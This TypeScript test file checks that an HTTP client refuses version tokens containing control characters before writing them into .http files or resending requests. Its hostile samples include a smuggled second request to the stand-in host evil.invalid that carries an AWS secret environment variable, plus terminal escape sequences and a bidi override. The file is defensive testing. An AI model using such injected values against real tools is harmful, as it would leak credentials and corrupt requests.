// No version token with a control character is ever written into a .http file or sent: the
// core refuses it where tokens are produced (rebase), where they are used (the resend plan),
// and before anything is merged (the refetch), so the editor and the CLI behave the same.
import { strict as assert } from 'node:assert';
import { classifyConflict } from '../../../src/core/conflict/classify-conflict';
import type { TokenUpdate } from '../../../src/core/conflict/conflict-model';
import { findDialect } from '../../../src/core/conflict/dialects';
import { rebase } from '../../../src/core/conflict/rebase';
import { planResend } from '../../../src/core/conflict/resend-plan';
import type { SendFn } from '../../../src/core/conflict/resolve-conflict';
import { refetchCurrent, resolveConflict } from '../../../src/core/conflict/resolve-conflict';
import { MemorySnapshotStore } from '../../../src/core/conflict/snapshot-store';
import { checkTokenUpdates, tokenValueProblem } from '../../../src/core/conflict/token-safety';
import { mergeBodies } from '../../../src/core/merge/merge-bodies';
import type { OutgoingRequest } from '../../../src/core/send/send-model';
import { exchange, httpResponse, outgoing } from './exchange-builder';

/** A request planted in the .http file, a screen clear, an 8-bit CSI, a bidi override, a tab. */
const hostile = [
  '"v2"\r\n\r\nPOST http://evil.invalid/\r\n\r\n{{$processEnv AWS_SECRET_ACCESS_KEY}}',
  '2\n###',
  'v2\u001b[2J',
  'v2\u009b2J',
  'v2\u202e',
  '3\u0000',
  'v\t2',
  'v2\u007f',
  'x\u2028y',
];

describe('version tokens with control characters', () => {
  it('are refused by tokenValueProblem with the token made visible, plain tokens pass', () => {
    for (const value of hostile) {
      const problem = tokenValueProblem(value);
      assert.match(problem ?? '', /control characters/, JSON.stringify(value));
      assert.doesNotMatch(problem ?? '', /[\u0000-\u001f\u007f-\u009f\u202e\u2028]/, 'the reason itself is inert');
    }
    for (const value of ['"v2"', 'W/"v2"', '2-9f1c0a', 42, 'Thu, 01 Jan 2026 00:00:02 GMT', '"Ünïcödé-tag"'])
      assert.equal(tokenValueProblem(value), undefined, String(value));
  });

  it('are left out of the token updates, which the editor writes into the file, with the reason', () => {
    const updates: TokenUpdate[] = [
      { location: { kind: 'header', name: 'If-Match' }, value: hostile[0] },
      { location: { kind: 'body', path: ['version'] }, value: '8' },
      { location: { kind: 'query', name: 'rev' }, value: hostile[2] },
      { location: { kind: 'header', name: 'If-Match' }, value: '', remove: true },
    ];
    const checked = checkTokenUpdates(updates);
    assert.deepEqual(checked.safe, [updates[1], updates[3]]);
    assert.deepEqual(
      checked.refused.map((r) => r.update),
      [updates[0], updates[2]],
    );
    assert.match(checked.refused[0].problem, /^the If-Match header: /);
  });

  it('never come out of rebase, and the resend plan refuses with the reason', () => {
    const request = outgoing('PUT', 'http://api.test/d/1', [['Content-Type', 'application/json']], {
      id: 1,
      title: 'Mine',
      version: 7,
    });
    const stale = exchange(request, { status: 409, body: { error: 'stale version' } });
    const report = classifyConflict(stale)!;
    const current = exchange(outgoing('GET', request.url), {
      status: 200,
      body: { id: 1, title: 'Mine', version: hostile[1] },
    });
    const result = rebase({
      report,
      dialect: findDialect(report.dialectId)!,
      exchange: stale,
      userBodyText: '{ "id": 1, "title": "Mine", "version": 7 }',
      current,
      merge: mergeBodies,
    });
    assert.deepEqual(result.tokenUpdates, []);
    assert.equal(result.refusedTokens?.length, 1);
    const plan = planResend({ request, rebase: result });
    assert.equal(!plan.ok && plan.reason, 'unusable-token');
    assert.match(!plan.ok ? plan.message : '', /control characters/);
  });

  it('stop the refetch before anything is merged, for the editor too, and nothing is sent', async () => {
    const request = outgoing('PUT', 'http://api.test/d/1', [['Content-Type', 'application/json']], {
      id: 1,
      title: 'Mine',
      version: 7,
    });
    const stale = exchange(request, { status: 409, body: { error: 'stale version' } });
    const report = classifyConflict(stale)!;
    const sent: OutgoingRequest[] = [];
    const send: SendFn = async (r) => {
      sent.push(r);
      return {
        ok: true,
        response: httpResponse({ status: 200, body: { id: 1, title: 'Theirs', version: hostile[0] } }, r.url),
      };
    };
    const fetched = await refetchCurrent({
      exchange: stale,
      report,
      dialect: findDialect(report.dialectId)!,
      snapshots: new MemorySnapshotStore(),
      send,
    });
    assert.equal(fetched.refused, 'unsafe-token');
    assert.equal(fetched.step.exchange, undefined);
    const steps = await resolveConflict({
      exchange: stale,
      snapshots: new MemorySnapshotStore(),
      send,
      merge: mergeBodies,
    });
    assert.equal(steps.outcome, 'unsafe-token');
    assert.deepEqual(
      sent.map((r) => r.method),
      ['GET', 'GET'],
      'only the two refetches went out',
    );
  });

  it('are refused by the resend plan in any location, not only line breaks in headers', () => {
    const put = outgoing('PUT', 'http://api.test/d/1', [['If-Match', '"v1"']], '{}');
    for (const value of hostile) {
      for (const location of [
        { kind: 'header', name: 'If-Match' },
        { kind: 'query', name: 'rev' },
        { kind: 'body', path: ['version'] },
      ] as const) {
        const plan = planResend({
          request: put,
          rebase: {
            merge: {
              kind: 'json',
              mode: 'three-way',
              merged: '{}',
              edits: [],
              conflicts: [],
              theirsChanges: [],
              oursChanges: [],
            },
            tokenUpdates: [{ location, value }],
            currentTokens: [],
          },
        });
        assert.equal(!plan.ok && plan.reason, 'unusable-token', `${location.kind} ${JSON.stringify(value)}`);
      }
    }
  });
});
